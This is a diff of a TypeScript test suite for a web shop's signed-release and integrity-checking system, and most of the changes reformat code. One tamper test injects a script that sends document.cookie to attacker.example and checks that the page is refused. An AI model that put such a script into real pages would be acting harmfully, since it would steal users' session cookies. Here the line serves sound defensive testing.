@@ -21,7 +21,23 @@ import { createCredential, releaseIdentities } from '../src/domains/releases/ide
 import { operatorAccounts } from '../src/domains/releases/operators.repository.ts';
 import { integrityFindings } from '../src/domains/releases/integrity-findings.repository.ts';
 import { startIntegrityWatch, type IntegrityPolicy } from '../src/domains/releases/integrity-watch.ts';
-import { releaseIntegrity, deploy, rollback, readHistory, readRegistry, hashBuild, digestBuild, generateSigningKey, publicKeyPemOf, readSigningKey, signManifest, verifySignedManifest, type SignedManifest, localDirectoryStorage, packBuild } from '@shop/release';
+import {
+  releaseIntegrity,
+  deploy,
+  rollback,
+  readHistory,
+  readRegistry,
+  hashBuild,
+  digestBuild,
+  generateSigningKey,
+  publicKeyPemOf,
+  readSigningKey,
+  signManifest,
+  verifySignedManifest,
+  type SignedManifest,
+  localDirectoryStorage,
+  packBuild,
+} from '@shop/release';
 import { createTeamSigningKey, registerShopKey, releaseKeys } from '../src/domains/releases/release-keys.repository.ts';
 import { opsRoutes } from '../src/domains/ops/console/index.ts';
 import { shellHost } from '../src/web/shell-host.ts';
@@ -56,13 +72,46 @@ beforeAll(async () => {
   accountKey = readSigningKey((await createTeamSigningKey(keys, 'ci-account', 'account')).privateKeyPem);
   const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
   for (const marker of ['one', 'two']) {
-    await deploy({ storage, part: 'checkout', distDir: fakeAreaBuild('checkout', { marker, routes: [cartRoute] }), packageVersion: '1.0.0', provenance: { who: 'seed' }, init: true, signingKey: shopKey });
+    await deploy({
+      storage,
+      part: 'checkout',
+      distDir: fakeAreaBuild('checkout', { marker, routes: [cartRoute] }),
+      packageVersion: '1.0.0',
+      provenance: { who: 'seed' },
+      init: true,
+      signingKey: shopKey,
+    });
   }
-  await deploy({ storage, part: 'shell', distDir: fakeShellBuild(), packageVersion: '1.0.0', provenance: { who: 'seed' }, signingKey: shopKey });
-  await app.register(opsRoutes, { prefix: '/api', storage, operatorToken: 'operator-token-for-integrity', publicUrl: 'https://shop.example', identities: releaseIdentities(api.db), operators: operatorAccounts(api.db), keys, integrity, findings: integrityFindings(api.db) });
+  await deploy({
+    storage,
+    part: 'shell',
+    distDir: fakeShellBuild(),
+    packageVersion: '1.0.0',
+    provenance: { who: 'seed' },
+    signingKey: shopKey,
+  });
+  await app.register(opsRoutes, {
+    prefix: '/api',
+    storage,
+    operatorToken: 'operator-token-for-integrity',
+    publicUrl: 'https://shop.example',
+    identities: releaseIdentities(api.db),
+    operators: operatorAccounts(api.db),
+    keys,
+    integrity,
+    findings: integrityFindings(api.db),
+  });
   await app.register(shellHost, {
-    storage, assetOrigin: 'https://cdn.example', gtmId: null, registryPollMs: 60_000, telemetrySample: 1, operatorToken: 'operator-token-for-integrity',
-    publicUrl: 'https://shop.example', integrity, pageCacheMs: 0, serverRender: false,
+    storage,
+    assetOrigin: 'https://cdn.example',
+    gtmId: null,
+    registryPollMs: 60_000,
+    telemetrySample: 1,
+    operatorToken: 'operator-token-for-integrity',
+    publicUrl: 'https://shop.example',
+    integrity,
+    pageCacheMs: 0,
+    serverRender: false,
     onRefusedVersion: (refused) => refusedVersions.push(`${refused.part} ${refused.version}`),
   });
   base = await app.listen({ port: 0, host: '127.0.0.1' });
@@ -97,7 +146,8 @@ describe('a signed manifest', () => {
     const checkout = { keyId: checkoutKey.keyId, owner: 'ci-checkout', area: 'checkout', publicKey: publicKeyPemOf(checkoutKey) };
     expect(verifySignedManifest(signed, [checkout], { part: 'checkout', version }).files['assets/page.js']?.size).toBeGreaterThan(0);
     const refusals = [
-      () => verifySignedManifest({ ...signed, text: signed.text.replace('"size": ', '"size": 1') }, [checkout], { part: 'checkout', version }),
+      () =>
+        verifySignedManifest({ ...signed, text: signed.text.replace('"size": ', '"size": 1') }, [checkout], { part: 'checkout', version }),
       () => verifySignedManifest(signed, [], { part: 'checkout', version }),
       () => verifySignedManifest(signed, [{ ...checkout, area: 'account' }], { part: 'checkout', version }),
       () => verifySignedManifest(signed, [checkout], { part: 'checkout', version: '1.0.0-0000000000' }),
@@ -115,7 +165,11 @@ describe('an upload', () => {
     const version = await liveCheckout();
     expect(readFileSync(join(versionDir('checkout', version), 'release-manifest.json'), 'utf8')).toContain('"assets/page.js"');
     await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
-    await fetch(`${base}/api/ops/releases/checkout/unpin`, { method: 'POST', headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' }, body: '{}' });
+    await fetch(`${base}/api/ops/releases/checkout/unpin`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
+      body: '{}',
+    });
   });
 
   it('is refused (422, audited) when its signature, its files, its signer, its age or its nonce do not hold; the registry stays byte-identical', async () => {
@@ -130,7 +184,10 @@ describe('an upload', () => {
       ['altered manifest', () => upload(dir, { ...good, text: good.text.replace(/"sha384": "[^"]{10}/, '"sha384": "AAAAAAAAAA') })],
       ['files differ from the manifest', () => upload(changed, good)],
       ['another team signed it', async () => upload(dir, await signBuild(dir, accountKey))],
-      ['signed a day ago', () => upload(dir, { text: staleText, signature: sign(null, Buffer.from(staleText), checkoutKey.privateKey).toString('base64') })],
+      [
+        'signed a day ago',
+        () => upload(dir, { text: staleText, signature: sign(null, Buffer.from(staleText), checkoutKey.privateKey).toString('base64') }),
+      ],
       ['unsigned', () => upload(dir, { text: good.text, signature: 'x' })],
     ];
     for (const [what, send] of cases) {
@@ -154,10 +211,13 @@ describe('an upload', () => {
     expect(((await replay.json()) as { error: { message: string } }).error.message).toContain('replayed upload');
     expect(registryBytes()).toBe(before);
     await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
-    await fetch(`${base}/api/ops/releases/checkout/unpin`, { method: 'POST', headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' }, body: '{}' });
+    await fetch(`${base}/api/ops/releases/checkout/unpin`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
+      body: '{}',
+    });
   });
 });
-
 
 describe('a signed upload sent several times at once', () => {
   it('is released once; every other copy is refused as a replay, on both engines', async () => {
@@ -166,10 +226,18 @@ describe('a signed upload sent several times at once', () => {
     const answers = await Promise.all(Array.from({ length: 6 }, () => upload(dir, signed)));
     const statuses = answers.map((answer) => answer.status).sort();
     expect(statuses).toEqual([200, 422, 422, 422, 422, 422]);
-    const accepted = await api.db.selectFrom('release_signatures').selectAll().where('version', '=', `1.0.0-${await hashBuild(dir)}`).execute();
+    const accepted = await api.db
+      .selectFrom('release_signatures')
+      .selectAll()
+      .where('version', '=', `1.0.0-${await hashBuild(dir)}`)
+      .execute();
     expect(accepted).toHaveLength(1);
     await rollback({ storage, part: 'checkout', provenance: { who: 'test' } });
-    await fetch(`${base}/api/ops/releases/checkout/unpin`, { method: 'POST', headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' }, body: '{}' });
+    await fetch(`${base}/api/ops/releases/checkout/unpin`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
+      body: '{}',
+    });
   });
 });
 
@@ -178,7 +246,9 @@ async function page(path = '/') {
   const response = await fetch(`${base}${path}`);
   const html = await response.text();
   const map = /<script type="importmap">(.*?)<\/script>/.exec(html)?.[1] ?? null;
-  const config = JSON.parse(/<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(html)?.[1] ?? 'null') as { registry: { areas: Record<string, { version: string }> } } | null;
+  const config = JSON.parse(/<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(html)?.[1] ?? 'null') as {
+    registry: { areas: Record<string, { version: string }> };
+  } | null;
   return { status: response.status, policy: response.headers.get('content-security-policy') ?? '', map, config };
 }
 const sha384Of = (bytes: Buffer) => `sha384-${createHash('sha384').update(bytes).digest('base64')}`;
@@ -191,7 +261,9 @@ describe("a page's scripts", () => {
     const integrity = (JSON.parse(map!) as { integrity: Record<string, string> }).integrity;
     const version = await liveCheckout();
     const entry = `https://cdn.example/remotes/checkout/${version}/remoteEntry.js`;
-    expect(Object.keys(integrity)).toEqual(expect.arrayContaining([entry, `https://cdn.example/remotes/checkout/${version}/assets/page.js`]));
+    expect(Object.keys(integrity)).toEqual(
+      expect.arrayContaining([entry, `https://cdn.example/remotes/checkout/${version}/assets/page.js`]),
+    );
     for (const [url, expected] of Object.entries(integrity)) {
       const file = join(origin, url.replace('https://cdn.example/', ''));
       expect(sha384Of(readFileSync(file)), url).toBe(expected);
@@ -221,7 +293,10 @@ describe("a page's scripts", () => {
     const file = join(versionDir('shell', shell), 'index.html');
     const original = readFileSync(file, 'utf8');
     expect((await servePage()).status).toBe(200);
-    writeFileSync(file, original.replace('<!--shop-config-->', '<script>fetch("https://attacker.example/?c="+document.cookie)</script><!--shop-config-->'));
+    writeFileSync(
+      file,
+      original.replace('<!--shop-config-->', '<script>fetch("https://attacker.example/?c="+document.cookie)</script><!--shop-config-->'),
+    );
     try {
       expect((await servePage()).status).toBe(503);
     } finally {
@@ -263,13 +338,24 @@ async function servePage() {
   const keys = releaseKeys(api.db);
   const integrity = releaseIntegrity({ storage, keys: () => keys.trusted() });
   await second.register(shellHost, {
-    storage, assetOrigin: 'https://cdn.example', gtmId: null, registryPollMs: 60_000, telemetrySample: 1, operatorToken: 'operator-token-for-integrity',
-    publicUrl: 'https://shop.example', integrity, pageCacheMs: 0, serverRender: false, check: releasedFileCheck(integrity, () => undefined),
+    storage,
+    assetOrigin: 'https://cdn.example',
+    gtmId: null,
+    registryPollMs: 60_000,
+    telemetrySample: 1,
+    operatorToken: 'operator-token-for-integrity',
+    publicUrl: 'https://shop.example',
+    integrity,
+    pageCacheMs: 0,
+    serverRender: false,
+    check: releasedFileCheck(integrity, () => undefined),
     onRefusedVersion: (refused) => refusedVersions.push(`${refused.part} ${refused.version}`),
   });
   const response = await second.inject({ url: '/checkout/cart' });
   await second.close();
-  const config = JSON.parse(/<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(response.body)?.[1] ?? '{"registry":{"areas":{}}}') as { registry: { areas: Record<string, unknown> } };
+  const config = JSON.parse(
+    /<script type="application\/json" id="shop-config">(.*?)<\/script>/.exec(response.body)?.[1] ?? '{"registry":{"areas":{}}}',
+  ) as { registry: { areas: Record<string, unknown> } };
   return { status: response.statusCode, areas: Object.keys(config.registry.areas) };
 }
 
@@ -277,14 +363,38 @@ describe('the integrity watch', () => {
   const watchWith = (policy: IntegrityPolicy, checkoutPageUrl: string | null = null) => {
     const keys = releaseKeys(api.db);
     return startIntegrityWatch({
-      storage, integrity: releaseIntegrity({ storage, keys: () => keys.trusted() }), findings: integrityFindings(api.db), policy, log: app.log, checkoutPageUrl, scheduled: false,
+      storage,
+      integrity: releaseIntegrity({ storage, keys: () => keys.trusted() }),
+      findings: integrityFindings(api.db),
+      policy,
+      log: app.log,
+      checkoutPageUrl,
+      scheduled: false,
     });
   };
   const findings = () => integrityFindings(api.db).recent(50);
 
   it('finds one byte changed in a released chunk, records it, and puts the part back on its last intact version (pinned)', async () => {
-    const intact = (await deploy({ storage, part: 'checkout', distDir: fakeAreaBuild('checkout', { marker: 'w-intact', routes: [cartRoute] }), packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey })).version;
-    const tampered = (await deploy({ storage, part: 'checkout', distDir: fakeAreaBuild('checkout', { marker: 'w-tampered', routes: [cartRoute] }), packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey })).version;
+    const intact = (
+      await deploy({
+        storage,
+        part: 'checkout',
+        distDir: fakeAreaBuild('checkout', { marker: 'w-intact', routes: [cartRoute] }),
+        packageVersion: '1.0.0',
+        provenance: { who: 'ci' },
+        signingKey: shopKey,
+      })
+    ).version;
+    const tampered = (
+      await deploy({
+        storage,
+        part: 'checkout',
+        distDir: fakeAreaBuild('checkout', { marker: 'w-tampered', routes: [cartRoute] }),
+        packageVersion: '1.0.0',
+        provenance: { who: 'ci' },
+        signingKey: shopKey,
+      })
+    ).version;
     const chunk = join(versionDir('checkout', tampered), 'assets', 'page.js');
     const bytes = readFileSync(chunk);
     bytes[0] = bytes[0]! ^ 1;
@@ -295,29 +405,66 @@ describe('the integrity watch', () => {
     const registry = await readRegistry(storage);
     expect(registry.areas.checkout!.version).toBe(intact);
     expect(registry.pins?.checkout).toMatchObject({ version: intact, by: 'kontrola integrity' });
-    expect((await readHistory(storage)).at(-1)).toMatchObject({ part: 'checkout', action: 'rollback', from: tampered, to: intact, who: 'kontrola integrity' });
-    expect(await findings()).toEqual(expect.arrayContaining([expect.objectContaining({ part: 'checkout', version: tampered, subject: 'assets/page.js', kind: 'file', action: 'fallback' })]));
+    expect((await readHistory(storage)).at(-1)).toMatchObject({
+      part: 'checkout',
+      action: 'rollback',
+      from: tampered,
+      to: intact,
+      who: 'kontrola integrity',
+    });
+    expect(await findings()).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ part: 'checkout', version: tampered, subject: 'assets/page.js', kind: 'file', action: 'fallback' }),
+      ]),
+    );
     // Counted in the metrics, from the database (every server reports the same), with the time of the check.
     const metrics = (await api.request('GET', '/api/metrics', { headers: { authorization: `Bearer ${METRICS_TOKEN}` } })).text;
-    expect(Number(/shop_release_integrity_findings_total\{part="checkout",kind="file"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(1);
-    expect(Number(/^shop_release_integrity_last_check_timestamp_seconds (\S+)$/m.exec(metrics)?.[1])).toBeGreaterThan(Date.now() / 1000 - 60);
+    expect(Number(/shop_release_integrity_findings_total\{part="checkout",kind="file"\} (\d+)/.exec(metrics)?.[1])).toBeGreaterThanOrEqual(
+      1,
+    );
+    expect(Number(/^shop_release_integrity_last_check_timestamp_seconds (\S+)$/m.exec(metrics)?.[1])).toBeGreaterThan(
+      Date.now() / 1000 - 60,
+    );
     // A rollback to the tampered version is refused as long as its files differ.
-    await expect(rollback({ storage, part: 'checkout', to: tampered, provenance: { who: 'ops' }, integrity: releaseIntegrity({ storage, keys: () => releaseKeys(api.db).trusted() }) })).rejects.toMatchObject({ code: 'tampered' });
+    await expect(
+      rollback({
+        storage,
+        part: 'checkout',
+        to: tampered,
+        provenance: { who: 'ops' },
+        integrity: releaseIntegrity({ storage, keys: () => releaseKeys(api.db).trusted() }),
+      }),
+    ).rejects.toMatchObject({ code: 'tampered' });
   });
 
   it('finds a changed compressed copy; with the alert-only policy it records the difference and moves nothing', async () => {
-    await fetch(`${base}/api/ops/releases/checkout/unpin`, { method: 'POST', headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' }, body: '{}' });
-    const version = (await deploy({ storage, part: 'checkout', distDir: fakeAreaBuild('checkout', { marker: 'w-br', routes: [cartRoute], pageBytes: 200 }), packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey })).version;
+    await fetch(`${base}/api/ops/releases/checkout/unpin`, {
+      method: 'POST',
+      headers: { authorization: `Bearer ${checkoutTeam}`, 'content-type': 'application/json' },
+      body: '{}',
+    });
+    const version = (
+      await deploy({
+        storage,
+        part: 'checkout',
+        distDir: fakeAreaBuild('checkout', { marker: 'w-br', routes: [cartRoute], pageBytes: 200 }),
+        packageVersion: '1.0.0',
+        provenance: { who: 'ci' },
+        signingKey: shopKey,
+      })
+    ).version;
     writeFileSync(join(versionDir('checkout', version), 'assets', 'page.js.br'), brotliCompressSync(Buffer.from('export default "evil";')));
     const before = registryBytes();
     const watch = watchWith({ intervalMs: 60_000, action: 'alert' });
     await watch.checkNow();
     watch.stop();
     expect(registryBytes()).toBe(before);
-    expect(await findings()).toEqual(expect.arrayContaining([expect.objectContaining({ version, subject: 'assets/page.js.br', action: 'alert' })]));
+    expect(await findings()).toEqual(
+      expect.arrayContaining([expect.objectContaining({ version, subject: 'assets/page.js.br', action: 'alert' })]),
+    );
   });
 
-  it("finds a checkout page answering without its security headers", async () => {
+  it('finds a checkout page answering without its security headers', async () => {
     const bare = createServer((_request, response) => response.end('<!doctype html>'));
     await new Promise<void>((resolve) => bare.listen(0, '127.0.0.1', resolve));
     const port = (bare.address() as { port: number }).port;
@@ -326,27 +473,57 @@ describe('the integrity watch', () => {
     watch.stop();
     bare.close();
     const headers = (await findings()).filter((row) => row.kind === 'headers');
-    expect(headers.map((row) => row.subject)).toEqual(expect.arrayContaining(['/checkout/cart: content-security-policy: chýba', '/checkout/cart: x-frame-options: chýba']));
+    expect(headers.map((row) => row.subject)).toEqual(
+      expect.arrayContaining(['/checkout/cart: content-security-policy: chýba', '/checkout/cart: x-frame-options: chýba']),
+    );
   });
 
   it('are shown on /ops to a signed-in operator (file, version, what was done), never to an area team', async () => {
     const operator = await signInOperator(api.db, base);
     const shown = await fetch(`${base}/api/ops/integrity`, { headers: { cookie: operator.cookie } });
     expect(shown.status).toBe(200);
-    const { data } = (await shown.json()) as { data: { findings: { part: string; subject: string; action: string; expected: string | null }[] } };
-    expect(data.findings).toEqual(expect.arrayContaining([expect.objectContaining({ part: 'checkout', subject: 'assets/page.js', action: 'fallback', expected: expect.stringMatching(/^sha384-/) })]));
+    const { data } = (await shown.json()) as {
+      data: { findings: { part: string; subject: string; action: string; expected: string | null }[] };
+    };
+    expect(data.findings).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({
+          part: 'checkout',
+          subject: 'assets/page.js',
+          action: 'fallback',
+          expected: expect.stringMatching(/^sha384-/),
+        }),
+      ]),
+    );
     expect((await fetch(`${base}/api/ops/integrity`, { headers: { authorization: `Bearer ${checkoutTeam}` } })).status).toBe(403);
   });
 });
 
 describe('the static origin', () => {
   it('sends a released file only with its signed bytes (its brotli copy too); a changed one is refused and reported', async () => {
-    const version = (await deploy({ storage, part: 'checkout', distDir: fakeAreaBuild('checkout', { marker: 'origin', routes: [cartRoute], pageBytes: 200 }), packageVersion: '1.0.0', provenance: { who: 'ci' }, signingKey: shopKey, overridePin: true })).version;
+    const version = (
+      await deploy({
+        storage,
+        part: 'checkout',
+        distDir: fakeAreaBuild('checkout', { marker: 'origin', routes: [cartRoute], pageBytes: 200 }),
+        packageVersion: '1.0.0',
+        provenance: { who: 'ci' },
+        signingKey: shopKey,
+        overridePin: true,
+      })
+    ).version;
     const reported: string[] = [];
     const keys = releaseKeys(api.db);
-    const assets = await buildStaticOrigin({ storage, logger: app.log, check: releasedFileCheck(releaseIntegrity({ storage, keys: () => keys.trusted() }), (part, v, file) => reported.push(`${part} ${v} ${file}`)) });
+    const assets = await buildStaticOrigin({
+      storage,
+      logger: app.log,
+      check: releasedFileCheck(releaseIntegrity({ storage, keys: () => keys.trusted() }), (part, v, file) =>
+        reported.push(`${part} ${v} ${file}`),
+      ),
+    });
     try {
-      const get = (file: string, encoding = 'identity') => assets.inject({ url: `/remotes/checkout/${version}/${file}`, headers: { 'accept-encoding': encoding } });
+      const get = (file: string, encoding = 'identity') =>
+        assets.inject({ url: `/remotes/checkout/${version}/${file}`, headers: { 'accept-encoding': encoding } });
       expect((await get('assets/page.js')).statusCode).toBe(200);
       expect((await get('assets/page.js', 'br')).headers['content-encoding']).toBe('br');
       const chunk = join(versionDir('checkout', version), 'assets', 'page.js');
